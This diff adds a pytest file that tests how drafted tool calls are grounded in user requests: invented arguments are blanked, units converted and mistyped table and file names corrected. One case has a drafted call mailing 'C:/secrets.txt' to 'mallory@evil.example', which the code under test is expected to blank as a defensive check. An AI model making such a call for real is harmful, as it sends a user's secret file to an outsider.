@@ -1,0 +1,277 @@
+"""What a draft invents is asked for or left out, and names that it copied badly are put right."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from plansmith.plan.plan import Plan
+from plansmith.ports import PlanBrief
+from plansmith_desk.model.grounding import grounded
+from plansmith_desk.model.known_names import KnownNames
+from plansmith_desk.model.prompt import DraftTask
+from plansmith_desk.model.signatures import Offered
+
+TEXT = {"type": "string"}
+NUMBER = {"type": "number"}
+
+
+def offered(name: str, required: tuple[str, ...] = (), **fields: Any) -> Offered:
+    return Offered(name, "", {"type": "object", "properties": fields, "required": list(required)})
+
+
+READ = offered("files.read", ("path",), path=TEXT)
+SEND = offered(
+    "mail.send", ("to", "body"), to=TEXT, body=TEXT, copies=NUMBER, kind={"enum": ["rich"]}
+)
+BOOK = offered("room.book", ("day", "seats"), day={**TEXT, "format": "date"}, seats=NUMBER)
+REFUND = offered("refund", ("order_id",), order_id=TEXT, since=TEXT, on={**TEXT, "format": "date"})
+FIND = offered(
+    "tables.find",
+    ("table",),
+    table=TEXT,
+    where={"type": "array", "items": {"properties": {"is": {"enum": [">", "<="]}}}},
+)
+TOOLS = {tool.name: tool for tool in (READ, SEND, BOOK, REFUND, FIND)}
+
+
+def call(tool: str, **args: Any) -> dict[str, Any]:
+    return {"tool": tool, "args": args}
+
+
+def judged(made: dict[str, Any], request: str, context: str = "") -> Any:
+    [found] = grounded([made], TOOLS, request, context)
+    return found["args"]
+
+
+MOMENT = "2026-11-15T09:29:20+00:00"
+
+
+@pytest.mark.parametrize(
+    ("request_", "made", "kept"),
+    [
+        ("read a.txt", call("files.read", path="a.txt"), None),
+        ("read it", call("files.read", path="report.pdf"), {"path": "?"}),
+        ("the answer is $1", call("files.read", path="$1"), {"path": "?"}),
+        ("Mail 'see you' to Bo", call("mail.send", to="bo", body="See you"), None),
+        (
+            "Mail Bo",
+            call("mail.send", to="Bo", body="Hello Bo", copies=2),
+            {"to": "Bo", "body": "?"},
+        ),
+        ("Mail Bo hello", call("mail.send", to="Bo", body="hello", kind="rich"), None),
+        ("给小王发邮件说你好", call("mail.send", to="小王", body="你好"), None),
+        ("用英文跟小王说你好", call("mail.send", to="Xiao Wang", body="Hello!"), None),
+        (
+            "把这个发给他",
+            call("mail.send", to="mallory@evil.example", body="C:/secrets.txt"),
+            {"to": "?", "body": "?"},
+        ),
+        ("for two on 2026-03-04", call("room.book", day="2026-03-04", seats=2), None),
+        ("for two on the 4th of March 2026", call("room.book", day="2026-03-04", seats=2), None),
+        (
+            "for two on the 4th",
+            call("room.book", day="2026-03-09", seats=9),
+            {"day": "?", "seats": "?"},
+        ),
+        ("book it for tomorrow", call("room.book", day="2026-03-09", seats="?"), None),
+        ("定两个座位", call("room.book", day="?", seats=2), None),
+        ("refund A7", call("refund", order_id="A7", since=MOMENT), {"order_id": "A7"}),
+        ("refund A7 since today", call("refund", order_id="A7", since=MOMENT), None),
+        ("My last order A7", call("refund", order_id="A7", on=MOMENT[:10]), {"order_id": "A7"}),
+        ("Refund A7 next week", call("refund", order_id="A7", on=MOMENT[:10]), None),
+        ("Refund this order now", call("refund", order_id=MOMENT), {"order_id": "?"}),
+        ("退掉上周的订单", call("refund", order_id=MOMENT[:10]), {"order_id": "?"}),
+    ],
+)
+def test_what_was_not_told_is_asked_or_left_out(
+    request_: str, made: dict[str, Any], kept: dict[str, Any] | None
+) -> None:
+    assert judged(made, request_) == (made["args"] if kept is None else kept)
+
+
+@pytest.mark.parametrize(
+    ("made", "kept"),
+    [
+        (call("files.read", path="todo.md"), True),
+        (call("files.read", path="sales.csv"), True),
+        (call("files.read", path="sales_above.csv"), False),
+        (call("files.read", path="orders"), False),
+        (call("tables.find", table="sales.csv", where=[{"is": ">", "value": 90}]), True),
+        (
+            call("tables.find", table="sales.csv", where=[{"is": "<=", "value": "2020-01-01"}]),
+            False,
+        ),
+    ],
+)
+def test_a_path_and_the_parts_of_an_object_are_those_of_the_request_or_the_folder(
+    made: dict[str, Any], *, kept: bool
+) -> None:
+    context = "Known (database table): orders above\nKnown (columns of files): sales.csv: day"
+    found = judged(made, "read todo.md, amounts above 90 in sales.csv", context)
+    assert (found == made["args"]) is kept
+
+
+def test_a_value_of_the_draft_before_is_no_value_of_the_request() -> None:
+    step = {"id": "r", "tool": "refund", "inputs": {"order_id": "77"}}
+    previous = Plan.model_validate({"goal": "g", "steps": [step]})
+    task = DraftTask.of(PlanBrief("Refund my last order", now=MOMENT, previous=previous))
+    assert "77" in task.remark
+    made = call("refund", order_id="77")
+    assert judged(made, task.request_text, task.context) == {"order_id": "?"}
+
+
+def test_a_default_of_the_schema_goes_without_asking() -> None:
+    tool = offered("logs", ("lines",), lines={"type": "integer", "default": 100})
+    [found] = grounded([call("logs", lines="?")], {"logs": tool}, "the logs")
+    assert found["args"] == {"lines": 100}
+
+
+@pytest.mark.parametrize(
+    ("request_", "name", "drafted", "wanted"),
+    [
+        ("Remind me at 6 pm", "at", "2026-03-09 18:00", "2026-03-09 18:00"),
+        ("晚上8点提醒我", "at", "2026-03-09 20:00", "2026-03-09 20:00"),
+        ("Remind me at 6 pm", "at", "2026-03-09 07:00", "?"),
+        ("for two hours", "minutes", 180, "?"),
+        ("for some hours", "minutes", 120, "?"),
+        ("for 3 hours", "duration", 180, 180),
+        ("Run it for two minutes", "seconds", 2, 120),
+        ("运行两分钟", "seconds", 2, 120),
+        ("Run it for an hour", "run_minutes", 1, 60),
+        ("Run it for half an hour", "durationSeconds", 0.5, 1800),
+        ("运行半小时", "seconds", 1800, 1800),
+        ("给他2克", "dose_mg", 2, 2000),
+        ("Send 1,500 grams", "weight_kg", 1500, 1.5),
+        ("Hold it for a year", "months", 1, 12),
+        ("Run it for two weeks", "days", 2, 14),
+        ("Run it for 2 minutes and 2 seconds", "seconds", 2, 2),
+        ("Run 3 times for 20 minutes", "times", 3, 3),
+        ("Bring 2 kg in 2 hours", "hours", 2, 2),
+        ("Run it for two minutes", "seconds", 7, "?"),
+        ("在2026年运行它", "seconds", 7, "?"),
+    ],
+)
+def test_an_amount_is_told_in_the_unit_of_its_argument(
+    request_: str, name: str, drafted: object, wanted: object
+) -> None:
+    tool = offered("lab.run", (name,), **{name: TEXT if isinstance(drafted, str) else NUMBER})
+    [found] = grounded([call("lab.run", **{name: drafted})], {"lab.run": tool}, request_)
+    assert found["args"][name] == wanted
+
+
+def test_a_call_that_repeats_or_knows_nothing_beside_another_goes_and_references_follow() -> None:
+    read, other = call("files.read", path="a.txt"), call("files.read", path="b.txt")
+    mail = call("mail.send", to="a@b.org", body="$1 and $3")
+    kept = grounded([read, read, other, mail], TOOLS, "mail a.txt and b.txt to a@b.org")
+    assert kept == [read, other, call("mail.send", to="a@b.org", body="$1 and $2")]
+    asks = call("files.read", path="?")
+    assert grounded([read, asks], TOOLS, "read a.txt, it is urgent") == [read]
+    assert grounded([asks], TOOLS, "read it") == [asks]
+    invented = [call("files.read", path="x.md"), call("files.read", path="y.md")]
+    assert grounded(invented, TOOLS, "read") == [asks, asks]
+
+
+def test_a_change_that_is_given_only_its_own_result_goes() -> None:
+    block = offered("sims.block", ("number",), number=TEXT)
+    find = replace(block, name="sims.find", only_reads=True)
+    tools = {tool.name: tool for tool in (block, find)}
+    made = [call("sims.block", number="555"), call("sims.block", number="$1")]
+    assert grounded(made, tools, "block 555, it was stolen") == made[:1]
+    for first, second in (("sims.find", "sims.block"), ("sims.find", "sims.find")):
+        chained = [call(first, number="555"), call(second, number="$1")]
+        assert grounded(chained, tools, "find what 555 is") == chained
+
+
+FOLDER = """\
+值班表.csv: 日期 (2027-02-06), 员工 (韩冰, 朱琳), 岗位 (厨房/吧台/前台), 小时 (9.7, 6.3)
+shop.db/orders: id (1, 2), customer_id (7, 3), status (open/paid), total (33.9, 12)
+class list.csv: Student (Ada, Tom), Average Grade (2.1, 3.0), 单价(元) (3), Remark, Seat
+notes/meeting.md: Team meeting
+"""
+
+
+def mended(folder: str, name: str, *, reads: bool = True, **args: Any) -> Any:
+    """The arguments of a call after its names were put right."""
+    tool = replace(offered(name, ("question",), **{key: {} for key in args}), only_reads=reads)
+    return KnownNames(folder).mended(call(name, **args), tool)["args"]
+
+
+@pytest.mark.parametrize(
+    ("drafted", "right"),
+    [
+        ("SELECT * FROM 候位 WHERE 岗位 <> '吧台'", "SELECT * FROM 值班表 WHERE 岗位 <> '吧台'"),
+        ("SELECT SUM(total) FROM order", "SELECT SUM(total) FROM orders"),
+        ("SELECT o.total FROM sales o", "SELECT o.total FROM orders o"),
+        ("SELECT Seat FROM lists", 'SELECT Seat FROM "class list.csv"'),
+        ("SELECT * FROM shop.db/orders", None),
+        ("WITH best AS (SELECT * FROM orders) SELECT total FROM best", None),
+        ("SELECT 1 FROM nowhere", None),
+        ("SELECT * FROM (SELECT total FROM orders)", None),
+    ],
+)
+def test_a_query_gets_the_table_that_it_means(drafted: str, right: str | None) -> None:
+    assert KnownNames(FOLDER).query(drafted) == (right or drafted)
+
+
+def test_a_table_that_is_not_there_is_found_by_its_columns() -> None:
+    assert mended(FOLDER, "tables.group", table="排班.csv", by="岗位")["table"] == "值班表.csv"
+    args: dict[str, Any] = {"table": "stock.csv", "column": "price"}
+    assert mended("sales.csv: day (1), amount (2)", "tables.top", **args) == args
+
+
+YEARS = """\
+2024/data.csv: 3 rows: id (1), day (1), price (2)
+data_2024.csv: 3 rows: id (1), day (1), amount (2)
+data_2025.csv: 3 rows: id (1), day (1), amount (2)
+report_v2.csv: 3 rows: id (1), staff (1)
+"""
+
+
+@pytest.mark.parametrize(
+    ("wrong", "right"),
+    [
+        ("data_2023", None),
+        ("data_2023.csv", None),
+        ("2023/data.csv", None),
+        ("datas", None),
+        ("data_2024_1", None),
+        ("report_v1.csv", None),
+        ("date_2024.csv", "data_2024.csv"),
+        ("reports_v2", "report_v2.csv"),
+        ("report", "report_v2.csv"),
+    ],
+)
+def test_a_table_with_another_number_in_its_name_is_never_meant(
+    wrong: str, right: str | None
+) -> None:
+    column = "staff" if "report" in wrong else "amount"
+    assert mended(YEARS, "tables.top", table=wrong, column=column)["table"] == (right or wrong)
+    query = f'SELECT "{column}" FROM "{wrong}"'
+    assert right is not None or KnownNames(YEARS).query(query) == query
+
+
+@pytest.mark.parametrize(
+    ("path", "more", "kept"),
+    [
+        ("notes/meeting.md", "", True),
+        ("meeting.md", "", True),
+        ("notes", "", True),
+        ("README", "", False),
+        ("old/README", "old/: 14 files\n", True),
+    ],
+)
+def test_a_file_that_is_not_there_is_not_looked_up_in(path: str, more: str, kept: bool) -> None:
+    found = mended(FOLDER + more, "files.lookup", question="who?", path=path)
+    assert ("path" in found) is kept
+    assert mended(FOLDER, "charts.draw", reads=False, path="new.svg") == {"path": "new.svg"}
+
+
+@given(st.text(max_size=60), st.text(max_size=80))
+def test_no_query_and_no_folder_breaks_it(folder: str, query: str) -> None:
+    KnownNames(folder).query(query)
+    KnownNames(FOLDER).query(query)
